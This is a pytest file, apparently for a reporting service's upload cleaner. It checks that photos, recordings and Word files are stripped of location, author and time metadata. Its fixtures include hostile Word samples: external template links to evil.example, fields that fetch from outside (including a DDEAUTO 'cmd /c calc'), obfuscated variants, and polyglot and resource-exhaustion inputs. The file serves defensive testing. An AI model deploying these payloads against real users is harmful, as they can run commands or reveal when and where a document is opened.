"""The evidence officers actually have: HEIC photos, screen recordings, voice notes, Word files.

Each file is made here, for real (HEIC by libheif, MP4/MOV/M4A by FFmpeg, DOCX as Word writes
it), carrying CANARY metadata of the kind phones and Word add; the cleaned copy must carry none
of it and still hold the evidence.
"""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile

import av
import pytest
from PIL import Image

from intake.attachments import AttachmentRejected, clean_upload
from intake.cleaning import docx_checks, docx_pictures
from tests.fixtures.evidence import (
    REL,
    R,
    W,
    heic_photo,
    recording,
    voice_note_with_cover,
    word_document,
)
from tests.fixtures.hostile.make import gps_jpeg


def unpacked(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {entry.filename: archive.read(entry) for entry in archive.infolist()}


# --- HEIC --------------------------------------------------------------------------------------


def test_a_heic_photo_is_converted_to_jpeg_without_its_gps_camera_or_xmp() -> None:
    cleaned = clean_upload("IMG_0412.HEIC", heic_photo())

    assert (cleaned.filename, cleaned.media_type) == ("IMG_0412.jpg", "image/jpeg")
    assert cleaned.notice == "Your photo was converted to JPEG and saved as ‘IMG_0412.jpg’."
    assert b"CANARY" not in cleaned.data
    with Image.open(io.BytesIO(cleaned.data)) as photo:
        assert photo.format == "JPEG" and photo.size == (64, 48)
        assert not photo.getexif() and "xmp" not in photo.info
        red, green, _ = photo.getpixel((32, 24))
        assert red > 180 and green < 80


def test_a_kept_heic_photo_is_unchanged_and_warns_what_it_shows() -> None:
    original = heic_photo()
    kept = clean_upload("IMG_0412.HEIC", original, keep_original=True)
    assert kept.data == original and kept.media_type == "image/heic"
    assert "the place and time the photo was taken" in kept.cautions[0]


def test_a_heic_photo_over_the_pixel_limit_is_refused() -> None:
    # A small photo whose "ispe" (image size) box declares 6400 × 4000 pixels, with its
    # "clap" (crop) box disabled: the size is read from there before anything is decoded.
    photo = bytearray(heic_photo())
    size_box = photo.index(b"ispe") + 8  # after the box type and its version and flags
    photo[size_box : size_box + 8] = (6400).to_bytes(4, "big") + (4000).to_bytes(4, "big")
    crop_box = photo.index(b"clap")
    photo[crop_box : crop_box + 4] = b"free"
    with pytest.raises(AttachmentRejected) as refused:
        clean_upload("huge.heic", bytes(photo))
    assert "too large an image to process" in refused.value.message


# --- recordings --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "video", "container", "media_type", "saved_as"),
    [
        ("ScreenRecording.mp4", True, "mp4", "video/mp4", "ScreenRecording.mp4"),
        ("IMG_0413.MOV", True, "mov", "video/mp4", "IMG_0413.mp4"),
        ("Voice note.m4a", False, "ipod", "audio/mp4", "Voice note.m4a"),
    ],
)
def test_a_recording_keeps_its_sound_and_picture_but_no_metadata(
    name: str, video: bool, container: str, media_type: str, saved_as: str
) -> None:
    original = recording(video=video, container=container)

    cleaned = clean_upload(name, original)

    assert (cleaned.filename, cleaned.media_type) == (saved_as, media_type)
    if saved_as != name:
        assert cleaned.notice == f"Your recording was converted to MP4 and saved as ‘{saved_as}’."
    assert b"CANARY" not in cleaned.data
    assert b"+51.5072" not in cleaned.data and b"Lavf" not in cleaned.data
    with av.open(io.BytesIO(cleaned.data)) as result, av.open(io.BytesIO(original)) as source:
        assert "creation_time" not in result.metadata and "location" not in result.metadata
        assert [s.type for s in result.streams] == [s.type for s in source.streams]
        for stream in result.streams:
            assert "creation_time" not in stream.metadata
            assert "handler_name" not in stream.metadata or "CANARY" not in str(
                stream.metadata["handler_name"]
            )
        assert sum(1 for _ in result.demux(result.streams.audio[0])) >= 16


def test_the_recording_time_is_not_kept_in_the_movie_header() -> None:
    cleaned = clean_upload("clip.mov", recording(video=True, container="mov"))
    with av.open(io.BytesIO(cleaned.data)) as result:
        assert "creation_time" not in result.metadata
    header = cleaned.data.index(b"mvhd")
    # version 0: four bytes of flags, then creation and modification times, both zero
    assert cleaned.data[header + 8 : header + 16] == bytes(8)


def test_a_kept_recording_warns_what_it_carries() -> None:
    original = recording(video=False, container="ipod")
    kept = clean_upload("Voice note.m4a", original, keep_original=True)
    assert kept.data == original and kept.media_type == "audio/mp4"
    assert kept.cautions == ("the place and time it was recorded and the phone or camera used",)


def test_a_kept_recording_with_a_zip_appended_is_refused() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as hidden:
        hidden.writestr("payload.txt", "x")
    polyglot = recording(video=False, container="ipod") + archive.getvalue()
    with pytest.raises(AttachmentRejected) as refused:
        clean_upload("note.m4a", polyglot, keep_original=True)
    assert "has another file hidden inside this recording" in refused.value.message


def test_a_damaged_recording_gets_a_clear_error() -> None:
    broken = recording(video=True, container="mp4")[:200]
    with pytest.raises(AttachmentRejected) as refused:
        clean_upload("clip.mp4", broken)
    assert refused.value.message.startswith(
        "‘clip.mp4’ looks like a video or sound recording but is damaged"
    )


# --- Word --------------------------------------------------------------------------------------


def test_a_word_document_keeps_its_text_but_no_author_comment_revision_or_photo_metadata() -> None:
    cleaned = clean_upload("statement.docx", word_document())

    assert cleaned.filename == "statement.docx"
    assert cleaned.media_type.endswith("wordprocessingml.document")
    parts = unpacked(cleaned.data)
    for name, body in parts.items():
        assert b"CANARY" not in body, name
        assert b"rsid" not in body and b"w:date=" not in body, name
    assert b"The sergeant said it in front of the team." in parts["word/document.xml"]
    assert b"Added later." in parts["word/document.xml"]
    with Image.open(io.BytesIO(parts["word/media/image1.jpeg"])) as photo:
        assert not photo.getexif() and "comment" not in photo.info
    with zipfile.ZipFile(io.BytesIO(cleaned.data)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


W14 = "http://schemas.microsoft.com/office/word/2010/wordml"
W15 = "http://schemas.microsoft.com/office/word/2012/wordml"
W16DU = "http://schemas.microsoft.com/office/word/2023/wordml/word16du"


def test_a_word_365_document_loses_its_ids_and_the_exact_times_of_comments_and_changes() -> None:
    """What Word 365 adds to what ``word_document`` has: the document's own ids (the same in
    every copy, so they find the original on the writer's drive), each comment's time in UTC,
    a tracked change's UTC time, and attributes written in single quotes."""
    w = f'xmlns:w="{W}" xmlns:w14="{W14}" xmlns:w15="{W15}" xmlns:w16du="{W16DU}"'
    cleaned = clean_upload(
        "statement.docx",
        word_document(
            **{
                "word/document.xml": (
                    f"<w:document {w}><w:body><w:p>"
                    '<w:ins w:id="1" w:author="CANARYREVISER" w:date="2026-11-03T09:41:00Z" '
                    'w16du:dateUtc="2026-11-03T09:41:12Z"><w:r><w:t>Added later.</w:t></w:r>'
                    "</w:ins><w:del w:id='2' w:author='CANARYQUOTED' w:date='2026-11-03T09:42:00Z'>"
                    "<w:r><w:delText>Gone.</w:delText></w:r></w:del></w:p></w:body></w:document>"
                ),
                "word/settings.xml": (
                    f'<w:settings {w}><w14:docId w14:val="CA7A11D0"/>'
                    '<w15:docId w15:val="{CA7A11D0-5E4D-4F8E-9D7C-6B5A4F3E2D1C}"/></w:settings>'
                ),
                "word/commentsExtensible.xml": (
                    '<w16cex:commentsExtensible xmlns:w16cex="http://schemas.microsoft.com/office/'
                    'word/2018/wordml/cex"><w16cex:commentExtensible w16cex:durableId="CA7A11D1" '
                    'w16cex:dateUtc="2026-12-03T14:35:12Z"/></w16cex:commentsExtensible>'
                ),
                "word/commentsIds.xml": (
                    '<w16cid:commentsIds xmlns:w16cid="http://schemas.microsoft.com/office/word/'
                    '2016/wordml/cid"><w16cid:commentId w16cid:paraId="1A2B3C4D" '
                    'w16cid:durableId="CA7A11D1"/></w16cid:commentsIds>'
                ),
            }
        ),
    )
    parts = unpacked(cleaned.data)
    for name, body in parts.items():
        assert b"CANARY" not in body and b"CA7A11" not in body, name
        assert b"2026-" not in body and b"docId" not in body, name
    assert b"Added later." in parts["word/document.xml"]
    assert b"Gone." not in parts["word/document.xml"]  # changes are accepted


@pytest.mark.parametrize(
    "extra",
    [
        {"word/vbaProject.bin": b"macro"},
        {"word/activeX/activeX1.xml": "<ax:ocx/>"},
        {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x03\x04"},
        {
            "word/_rels/settings.xml.rels": (
                f'<Relationships xmlns="{REL}"><Relationship Id="rId1" '
                f'Type="{R}/attachedTemplate" Target="https://evil.example/t.dotm" '
                'TargetMode="External"/></Relationships>'
            )
        },
    ],
    ids=["macros", "ActiveX control", "embedded spreadsheet", "outside template"],
)
@pytest.mark.parametrize("keep_original", [False, True])
def test_a_word_document_that_would_run_or_fetch_something_is_refused(
    extra: dict[str, str | bytes], keep_original: bool
) -> None:
    with pytest.raises(AttachmentRejected) as refused:
        clean_upload("rota.docx", word_document(**extra), keep_original=keep_original)
    assert "contains macros, embedded files, controls or links to outside files" in (
        refused.value.message
    )


def _template_link(relationship: str) -> dict[str, str]:
    return {
        "word/_rels/settings.xml.rels": (
            f'<Relationships xmlns="{REL}">{relationship}</Relationships>'
        )
    }


@pytest.mark.parametrize(
    "extra",
    [
        _template_link(
            f"<Relationship Id='rId1' Type='{R}/attachedTemplate' "
            "Target='file://evil.example/share/t.dotm' TargetMode='External'/>"
        ),
        _template_link(
            '<Relationship Id="rId1" Target="https://evil.example/?a>b" '
            f'Type="{R}/attachedTemplate" TargetMode="External"/>'
        ),
        _template_link(
            f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
            'Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/>'
        ),
        _template_link(
            f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
            'Target="https://evil.example/t.dotm" TargetMode = "External"/>'
        ),
        _template_link(
            f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
            'Target="https://evil.example/relationships/hyperlink" TargetMode="External"/>'
        ),
        {
            "word/_rels/document.xml.rels": (
                f'<Relationships xmlns="{REL}"><Relationship Id="rId2" Type="{R}/image" '
                'Target="https://evil.example/pixel.png" TargetMode="External"/></Relationships>'
            )
        },
    ],
    ids=[
        "single quotes",
        "a > inside a value",
        "a character reference",
        "spaces around =",
        "a target ending like a hyperlink type",
        "a picture fetched from outside",
    ],
)
@pytest.mark.parametrize("keep_original", [False, True])
def test_a_link_to_outside_the_document_is_refused_however_its_xml_is_written(
    extra: dict[str, str], keep_original: bool
) -> None:
    with pytest.raises(AttachmentRejected) as refused:
        clean_upload("rota.docx", word_document(**extra), keep_original=keep_original)
    assert "links to outside files" in refused.value.message


@pytest.mark.parametrize("keep_original", [False, True])
def test_a_word_document_whose_links_part_is_not_plain_xml_is_refused_as_damaged(
    keep_original: bool,
) -> None:
    entities = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "External">]>'
        f'<Relationships xmlns="{REL}"><Relationship Id="rId1" Type="{R}/attachedTemplate" '
        'Target="https://evil.example/t.dotm" TargetMode="&e;"/></Relationships>'
    )
    with pytest.raises(AttachmentRejected) as refused:
        clean_upload(
            "rota.docx",
            word_document(**{"word/_rels/settings.xml.rels": entities}),
            keep_original=keep_original,
        )
    assert "is damaged" in refused.value.message


def _runs(*pieces: str) -> str:
    """Runs of a complex field: "begin", "separate" and "end" name a ``w:fldChar``, anything
    else is a piece of field code, each in a run of its own as Word splits them."""
    runs = []
    for piece in pieces:
        if piece in ("begin", "separate", "end"):
            runs.append(f'<w:r><w:fldChar w:fldCharType="{piece}"/></w:r>')
        else:
            runs.append(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>')
    return "".join(runs)


def _with_fields(xml: str, part: str = "word/document.xml") -> dict[str, str]:
    root = "w:hdr" if "header" in part else "w:document"
    inner = f"<w:p>{xml}</w:p>" if "header" in part else f"<w:body><w:p>{xml}</w:p></w:body>"
    return {part: f'<{root} xmlns:w="{W}">{inner}</{root}>'}


# Word doubles each backslash in a field code.
SHARE = r"\\\\fileserver.evil.example\\share\\logo.png"


@pytest.mark.parametrize(
    "extra",
    [
        _with_fields(_runs("begin", f' INCLUDEPICTURE "{SHARE}" \\d ', "separate", "end")),
        _with_fields(_runs("begin", " INCLUDE", 'PICTURE "https://evil.example/p" ', "end")),
        _with_fields(_runs("begin", ' includetext "https://evil.example/t.docx" ', "end")),
        _with_fields(_runs("begin", " Dde", "Auto ", 'cmd "/c calc" ', "separate", "end")),
        _with_fields(
            _runs("begin", ' IF 1 = 1 "', "begin", ' INCLUDEPICTURE "https://evil.example/p" ')
            + _runs("separate", "end", '" "" ', "separate", "end")
        ),
        _with_fields(
            _runs("begin", "begin", " QUOTE 68 68 69 ", "separate", "end")
            + _runs(' cmd "/c calc" ', "separate", "end")
        ),
        _with_fields(
            f'<w:fldSimple w:instr=" LINK Excel.Sheet.12 &quot;{SHARE}&quot; Sheet1 \\a "/>'
        ),
        _with_fields(_runs("begin", f' INCLUDEPICTURE "{SHARE}" ', "end"), "word/header1.xml"),
        _with_fields(_runs("begin", ' DATABASE \\c "DSN=evil" ', "end"), "word/footnotes.xml"),
        _with_fields(_runs("begin", ' LINK "https://evil.example/x" ', "end"), "word/header2.bin"),
        _with_fields(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:del><w:r><w:delInstrText>'
            ' IMPORT "https://evil.example/p.wmf" </w:delInstrText></w:r></w:del>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        ),
    ],
    ids=[
        "a picture from a network share",
        "split across runs",
        "lower case",
        "mixed case split inside its name",
        "nested in another field",
        "its name made by a nested field",
        "a simple field",
        "in a header",
        "in the footnotes",
        "in a part not named .xml",
        "in deleted field code",
    ],
)
@pytest.mark.parametrize("keep_original", [False, True])
def test_a_word_document_with_a_field_that_fetches_from_outside_is_refused(
    extra: dict[str, str], keep_original: bool
) -> None:
    with pytest.raises(AttachmentRejected) as refused:
        clean_upload("rota.docx", word_document(**extra), keep_original=keep_original)
    assert refused.value.message == (
        "‘rota.docx’ contains a field that fetches a picture, text or data from outside the "
        "document when Word updates it, which could tell someone else when the team opens it. "
        "Save it as PDF and upload that."
    )


def test_a_word_document_with_everyday_fields_is_cleaned() -> None:
    fields = (
        _runs("begin", " PAGE ", "separate", "end")
        + _runs("begin", ' HYPERLINK "https://www.gov.uk/" ', "separate", "end")
        + _runs("begin", " IF ", "begin", " PAGE ", "separate", "end", ' = 1 "first" ', "end")
        + _runs("begin", " REF Include_dates \\h ", "separate", "end")
        + '<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM yyyy&quot; "/>'
    )
    cleaned = clean_upload("rota.docx", word_document(**_with_fields(fields)))
    assert b"HYPERLINK" in unpacked(cleaned.data)["word/document.xml"]


def test_a_word_documents_links_are_read_without_holding_the_whole_part_in_memory(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A links part of a million empty elements (4 MB, a few KB zipped) built as a tree took
    about 100 MB; 100 MB of them, which the archive limit allows, 2.4 GB of the worker's.
    What is measured is memory: tracing every allocation slows the reading to about 20 s, so on
    a busy machine the document's 30 seconds ran out first (its limit is tested on its own)."""
    monkeypatch.setattr(docx_checks, "MAX_SECONDS", 600.0)
    links = f'<Relationships xmlns="{REL}">' + "<a/>" * 1_000_000 + "</Relationships>"
    document = word_document(**{"word/_rels/settings.xml.rels": links})
    assert len(document) < 100_000
    tracemalloc.start()
    try:
        clean_upload("rota.docx", document)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 30_000_000  # the part itself, read and written, and no tree of it


@pytest.mark.parametrize("opening", ["<w:rsids>", "<w15:docId "], ids=["rsid table", "docId"])
def test_a_word_document_of_thousands_of_unclosed_tags_is_cleaned_in_moments(opening: str) -> None:
    """Each unclosed tag once made the cleaner search the rest of the part for its end: 20,000
    of them (a 2 KB upload) took seconds, a 1 MB part a quarter of an hour. They are in a CDATA
    section, where they are text, since a part that is not well-formed XML is refused."""
    tags = f"<![CDATA[{opening * 20_000}]]>"
    body = f'<w:document xmlns:w="{W}"><w:body>{tags}</w:body></w:document>'
    document = word_document(**{"word/document.xml": body})
    assert len(document) < 5_000
    started = time.process_time()
    clean_upload("statement.docx", document)
    assert time.process_time() - started < 1.0


def _photo(kind: str) -> bytes:
    """A photo with its camera's GPS position (EXIF), in ``kind`` (a Pillow format name)."""
    with Image.open(io.BytesIO(gps_jpeg())) as photo:
        out = io.BytesIO()
        photo.save(out, kind, exif=photo.getexif())
    assert b"CANARY" in out.getvalue()
    return out.getvalue()


def test_a_photo_in_a_word_document_is_cleaned_whatever_its_part_is_called() -> None:
    cleaned = clean_upload("statement.docx", word_document(**{"word/media/image1.bin": gps_jpeg()}))
    with Image.open(io.BytesIO(unpacked(cleaned.data)["word/media/image1.bin"])) as photo:
        assert not photo.getexif()


@pytest.mark.parametrize("kind", ["TIFF", "WEBP"])
def test_a_word_document_holding_a_photo_candour_cannot_clean_is_refused(kind: str) -> None:
    document = word_document(**{f"word/media/image2.{kind.lower()}": _photo(kind)})
    with pytest.raises(AttachmentRejected) as refused:
        clean_upload("statement.docx", document)
    assert refused.value.message == (
        "‘statement.docx’ holds a picture Candour cannot remove hidden details from, such as "
        "where a photo was taken. Save it as PDF and upload that."
    )


def test_a_kept_word_document_warns_about_author_and_comments() -> None:
    original = word_document()
    kept = clean_upload("statement.docx", original, keep_original=True)
    assert kept.data == original
    assert kept.cautions == (
        "the author’s name, comments, tracked changes, hidden text and editing times",
    )


# --- anything else -----------------------------------------------------------------------------


def test_other_kinds_get_an_error_that_lists_what_is_accepted() -> None:
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "WEBP")
    with pytest.raises(AttachmentRejected) as refused:
        clean_upload("sticker.webp", out.getvalue())
    assert refused.value.message == (
        "‘sticker.webp’ is not one of the photos (JPEG, PNG or HEIC), PDF or Word documents, "
        "videos (MP4 or MOV), voice notes (M4A) or text files Candour accepts: it looks like a "
        "WebP image."
    )


def test_a_text_file_named_docx_is_saved_as_txt_and_the_reporter_is_told() -> None:
    cleaned = clean_upload("statement.docx", b"What happened on the night shift.")
    assert cleaned.filename == "statement.txt"
    assert cleaned.notice == (
        "‘statement.docx’ is a plain text file, so it was saved as ‘statement.txt’."
    )


def test_a_file_whose_name_matches_its_kind_gets_no_notice() -> None:
    assert clean_upload("statement.txt", b"words").notice is None
    assert clean_upload("photo.JPEG", gps_jpeg()).notice is None


def test_a_word_document_with_too_many_pictures_is_refused_before_any_is_decoded() -> None:
    pictures = {
        f"word/media/image{n}.png": b"\x89PNG" for n in range(docx_pictures.MAX_PICTURES + 1)
    }
    with pytest.raises(AttachmentRejected) as refused:
        clean_upload("album.docx", word_document(**pictures))
    assert refused.value.message == (
        f"‘album.docx’ has more than {docx_pictures.MAX_PICTURES} pictures. Save it as PDF, "
        "or split it, and upload that instead."
    )


def test_a_voice_note_with_a_cover_picture_stays_a_voice_note_without_the_picture() -> None:
    cleaned = clean_upload("Recording 12.m4a", voice_note_with_cover())

    assert (cleaned.filename, cleaned.media_type) == ("Recording 12.m4a", "audio/mp4")
    assert b"CANARY" not in cleaned.data
    with av.open(io.BytesIO(cleaned.data)) as result:
        assert [stream.type for stream in result.streams] == ["audio"]


def test_a_sound_only_mp4_is_saved_as_m4a_and_the_reporter_is_told() -> None:
    cleaned = clean_upload("memo.mp4", recording(video=False, container="mp4"))
    assert (cleaned.filename, cleaned.media_type) == ("memo.m4a", "audio/mp4")
    assert cleaned.notice == "Your recording was converted to M4A and saved as ‘memo.m4a’."
